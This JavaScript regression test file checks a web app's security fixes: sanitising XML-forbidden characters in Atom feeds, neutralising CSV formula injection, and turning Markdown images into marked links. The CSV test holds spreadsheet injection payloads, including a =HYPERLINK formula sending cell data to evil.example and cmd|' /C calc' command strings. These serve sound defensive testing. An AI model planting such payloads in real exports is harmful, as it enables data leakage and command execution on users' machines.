// 323_security_output — regression tests for the findings of the security
// review (issue 11) about what Pacte writes for other programs to read, each
// failing on the code before its fix:
//   9. a title holding U+FFFF (stored before validation refused it, or by a
//      restore) made the Atom feed unparseable for every subscriber;
//  10. a name such as =HYPERLINK(…) went as it is into the CSV export, where
//      a spreadsheet runs it as a formula;
//  15. Markdown let external images through in description_html (tracking
//      pixels in the JSON and feeds), and user links carried no rel.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import {
	useServer, Client, signedIn, registerPartner, csrfFrom, runPacte, dbArgs, assertCleanExit,
	DATABASE_URL, databaseUrl,
} from './lib.mjs';

const srv = useServer();

// Runs one SQL statement on the server's database, behind its back (as an
// older version or a restore would have written it).
function sql(statement) {
	if (DATABASE_URL)
		execFileSync('psql', ['-X', '-q', '-v', 'ON_ERROR_STOP=1', '-d', databaseUrl(srv.dir),
			'-c', statement], { encoding: 'utf8' });
	else
		execFileSync('sqlite3', [path.join(srv.dir, 'pacte.db'), statement], { encoding: 'utf8' });
}

// The SQL for the character U+code on the suite's backend.
const chr = (code) => `${DATABASE_URL ? 'chr' : 'char'}(${code})`;

// Parses text with a real XML parser (Python's expat, which refuses every
// character XML 1.0 does not allow); resolves to null, or the parser's error.
function xmlError(text) {
	try {
		execFileSync('python3', ['-c',
			'import sys, xml.dom.minidom; xml.dom.minidom.parseString(sys.stdin.buffer.read())'],
		{ input: Buffer.from(text, 'utf8'), stdio: ['pipe', 'ignore', 'pipe'] });
		return null;
	} catch (e) {
		return String(e.stderr || e.message).trim().split('\n').pop();
	}
}

// Creates a commitment as a signed-in administrator; returns its JSON.
async function commitment(fields) {
	const { client } = await signedIn(srv, { role: 'admin' });
	const csrf = csrfFrom((await client.get('/account')).text);
	const r = await client.request('/api/v1/commitments', {
		method: 'POST',
		json: {
			csrf_token: csrf, lang: 'en', level: 'international', countries: [], form: 'policy',
			...fields,
		},
	});
	assert.equal(r.status, 201, r.text.slice(0, 500));
	return r.json.commitment;
}

// A minimal RFC 4180 reader: the records of text as arrays of fields.
function parseCsv(text) {
	const rows = [];
	let row = [], field = '', i = 0, quoted = false;
	while (i < text.length) {
		const c = text[i];
		if (quoted) {
			if (c === '"' && text[i + 1] === '"') {
				field += '"';
				i += 2;
				continue;
			}
			if (c === '"')
				quoted = false;
			else
				field += c;
			i++;
			continue;
		}
		if (c === '"') {
			quoted = true;
		} else if (c === ',') {
			row.push(field);
			field = '';
		} else if (c === '\r' && text[i + 1] === '\n') {
			row.push(field);
			rows.push(row);
			row = [];
			field = '';
			i++;
		} else {
			field += c;
		}
		i++;
	}
	assert.equal(field + row.join(''), '', 'the file ends with CRLF');
	return rows;
}

test('finding 9: characters XML forbids, stored in a title, leave the Atom feed parseable', async () => {
	const c = await commitment({ title: 'Placeholder title of finding nine', objectives: [19],
		description: 'Placeholder description' });
	// What validation now refuses, written straight into the database:
	// noncharacters U+FFFF and U+FFFE, C0 controls but tab/LF/CR.
	const bad = (s) => `'${s} ' || ${chr(65535)} || ${chr(65534)} || ${chr(1)} || ${chr(27)} || ' end'`;
	sql(`UPDATE commitment SET title = ${bad('Broken title')}, description = ${bad('Broken text')} ` +
		`WHERE id = ${c.id}; UPDATE data_version SET version = version + 1`);
	const json = await new Client(srv).get(`/api/v1/commitments/${c.id}`);
	assert.ok(json.json.commitment.title.includes('\uffff'), 'the bad title is in the database');

	for (const q of ['', '?objective=19', '?objective=19&lang=fr']) {
		const r = await new Client(srv).get(`/feeds/commitments.atom${q}`);
		assert.equal(r.status, 200);
		assert.equal(xmlError(r.text), null, `the feed${q} parses as XML`);
		assert.match(r.text, /Broken title \ufffd\ufffd\ufffd\ufffd end/,
			'each character XML forbids is replaced by U+FFFD');
		assert.match(r.text, /Broken text \ufffd\ufffd\ufffd\ufffd end/);
	}
	// The site's pages are HTML and keep the text as stored.
	const page = await new Client(srv).get(`/commitments/${c.id}`);
	assert.equal(page.status, 200);
});

test('finding 10: CSV export cells that a spreadsheet would run as formulas are neutralised', async () => {
	const formulas = {
		org_name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
		description: '+cmd|\' /C calc\'!A0',
		website: 'https://example.org/-minus',
	};
	const reg = await registerPartner(srv, formulas);
	const other = await registerPartner(srv, { org_name: '@SUM(1+1)*cmd|\' /C calc\'!A0',
		description: '-2+3+cmd|\' /C calc\'!A0' });
	// Accredited, so the export has them whatever it does with requests.
	const pending = await runPacte(['actor', 'pending', ...dbArgs(srv.dir)]);
	assertCleanExit(pending, 'pacte actor pending');
	for (const name of [reg.name, other.name]) {
		const line = pending.stdout.split('\n').find((l) => l.includes(name));
		assert.ok(line, `${name} is pending:\n${pending.stdout}`);
		const id = /\d+/.exec(line)[0];
		assertCleanExit(await runPacte(['actor', 'decide', id, 'accredit', ...dbArgs(srv.dir)]),
			'pacte actor decide');
	}

	const dir = await mkdtemp(path.join(os.tmpdir(), 'pacte-export-'));
	try {
		assertCleanExit(await runPacte(['export', '--out', dir, ...dbArgs(srv.dir)]), 'pacte export');
		const rows = parseCsv(await readFile(path.join(dir, 'actor.csv'), 'utf8'));
		const header = rows[0];
		const col = (n) => header.indexOf(n);
		const find = (name) => rows.find((r) => r[col('name')].endsWith(name));
		const a = find(formulas.org_name), b = find('@SUM(1+1)*cmd|\' /C calc\'!A0');
		assert.ok(a && b, 'both partners are exported');
		assert.equal(a[col('name')], `'${formulas.org_name}`);
		assert.equal(a[col('description')], `'${formulas.description}`);
		assert.equal(a[col('website')], formulas.website, 'a cell starting otherwise is as it was');
		assert.equal(b[col('name')], '\'@SUM(1+1)*cmd|\' /C calc\'!A0');
		assert.equal(b[col('description')], '\'-2+3+cmd|\' /C calc\'!A0');
		// Numbers stay numbers: the id column holds digits alone.
		for (const r of rows.slice(1))
			assert.match(r[col('id')], /^\d+$/);
		for (const r of rows.slice(1))
			for (const cell of r)
				assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a cell of actor.csv: ${cell}`);
		// The data package tells data users.
		const pkg = JSON.parse(await readFile(path.join(dir, 'datapackage.json'), 'utf8'));
		assert.match(pkg.description, /apostrophe/);
	} finally {
		await rm(dir, { recursive: true, force: true });
	}
});

test('finding 15: Markdown turns images into links and marks user links', async () => {
	const c = await commitment({
		title: 'Commitment of finding fifteen', objectives: [20],
		description: 'Look ![a pixel](https://tracker.example/p.gif "t") and ' +
			'[![badge](https://badge.example/b.svg)](https://example.org/x) and <https://example.net/y> and ' +
			'![](https://tracker.example/empty.png)',
	});
	const html = c.description_html;
	assert.doesNotMatch(html, /<img/, html);
	assert.match(html, /<a href="https:\/\/tracker\.example\/p\.gif" title="t" rel="nofollow noopener ugc">a pixel<\/a>/, html);
	assert.match(html, /<a href="https:\/\/example\.org\/x" rel="nofollow noopener ugc">badge<\/a>/, html);
	assert.match(html, /<a href="https:\/\/example\.net\/y" rel="nofollow noopener ugc">/, html);
	assert.match(html, /<a href="https:\/\/tracker\.example\/empty\.png" rel="nofollow noopener ugc">https:\/\/tracker\.example\/empty\.png<\/a>/, html);
	const again = await new Client(srv).get(`/api/v1/commitments/${c.id}`);
	assert.equal(again.json.commitment.description_html, html);
	const page = await new Client(srv).get(`/commitments/${c.id}`);
	assert.doesNotMatch(page.text, /tracker\.example[^"]*"[^>]*>\s*<\/a>|<img[^>]+tracker/);
});
